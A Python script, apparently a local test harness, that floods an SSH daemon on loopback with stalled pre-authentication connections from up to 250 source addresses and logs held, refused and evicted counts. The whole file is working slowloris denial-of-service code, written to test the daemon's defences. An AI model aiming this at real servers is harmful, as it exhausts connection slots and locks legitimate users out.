#!/usr/bin/python3
"""A slowloris against the bastion: many stalled pre-authentication
connections from many source addresses, kept up for as long as it runs.

slowloris.py PORT COUNT SUBNET STATUS [--max-seconds S]

COUNT sources 127.0.SUBNET.1 .. 127.0.SUBNET.COUNT (all of 127/8 is loopback
on Linux; COUNT <= 250), one connection each. A connection sends an SSH
version line and then nothing (it stalls in the key exchange). It is
"held" once the server sent its own version line; "refused" when the server
closed it without one (a refusal at accept); "evicted" when the server closed
it after its version line (the daemon dropped it for another).

An attacker wants the slots full: every round (about twice a second), every
source that holds no connection (refused or evicted) knocks again. The
status file is rewritten after every round:

    round R held H attempts A refused F evicted E ready 0|1

ready becomes 1 once every source has knocked at least once. The sources
whose connection was evicted are appended to STATUS.evicted (one a line),
and the summary line goes to standard output when the run ends (SIGTERM, or
--max-seconds, default 300).
"""
import os
import selectors
import signal
import socket
import sys
import time

VERSION = b"SSH-2.0-slowloris_0.1\r\n"


class Flood:
    def __init__(self, port, count, subnet, status):
        self.port = port
        self.sources = ["127.0.%d.%d" % (subnet, i) for i in range(1, count + 1)]
        self.status = status
        self.sel = selectors.DefaultSelector()
        self.held = {}  # source -> socket
        self.knocked = set()
        self.attempts = self.refused = self.evicted = self.rounds = 0
        self.stop = False

    def knock(self, src):
        """One connection from src: held (the server spoke), or refused."""
        self.attempts += 1
        self.knocked.add(src)
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.bind((src, 0))
            s.settimeout(10)
            s.connect(("127.0.0.1", self.port))
            s.sendall(VERSION)
            data = s.recv(256)
        except OSError:
            data = b""
        if not data.startswith(b"SSH-"):
            self.refused += 1
            s.close()
            return
        s.setblocking(False)
        self.held[src] = s
        self.sel.register(s, selectors.EVENT_READ, src)

    def watch(self, timeout):
        """Read what the server sends (its KEXINIT) and note closures."""
        for key, _ in self.sel.select(timeout=timeout):
            try:
                data = key.fileobj.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if data:
                continue
            src = key.data
            self.sel.unregister(key.fileobj)
            key.fileobj.close()
            del self.held[src]
            self.evicted += 1
            with open(self.status + ".evicted", "a") as f:
                f.write(src + "\n")

    def write_status(self):
        ready = int(len(self.knocked) == len(self.sources))
        with open(self.status + ".tmp", "w") as f:
            f.write("round %d held %d attempts %d refused %d evicted %d ready %d\n" %
                    (self.rounds, len(self.held), self.attempts, self.refused, self.evicted, ready))
        os.rename(self.status + ".tmp", self.status)

    def run(self, max_seconds):
        deadline = time.monotonic() + max_seconds
        while not self.stop and time.monotonic() < deadline:
            for src in self.sources:
                if self.stop:
                    break
                if src not in self.held:
                    self.knock(src)
                    self.watch(0)
            self.rounds += 1
            self.write_status()
            end = time.monotonic() + 0.5
            while not self.stop and time.monotonic() < end:
                self.watch(0.1)
        print("held %d attempts %d refused %d evicted %d rounds %d" %
              (len(self.held), self.attempts, self.refused, self.evicted, self.rounds), flush=True)


def main():
    port, count, subnet = (int(a) for a in sys.argv[1:4])
    status = sys.argv[4]
    max_seconds = 300
    if "--max-seconds" in sys.argv:
        max_seconds = float(sys.argv[sys.argv.index("--max-seconds") + 1])
    flood = Flood(port, count, subnet, status)

    def on_term(sig, frame):
        flood.stop = True

    signal.signal(signal.SIGTERM, on_term)
    flood.run(max_seconds)


if __name__ == "__main__":
    main()
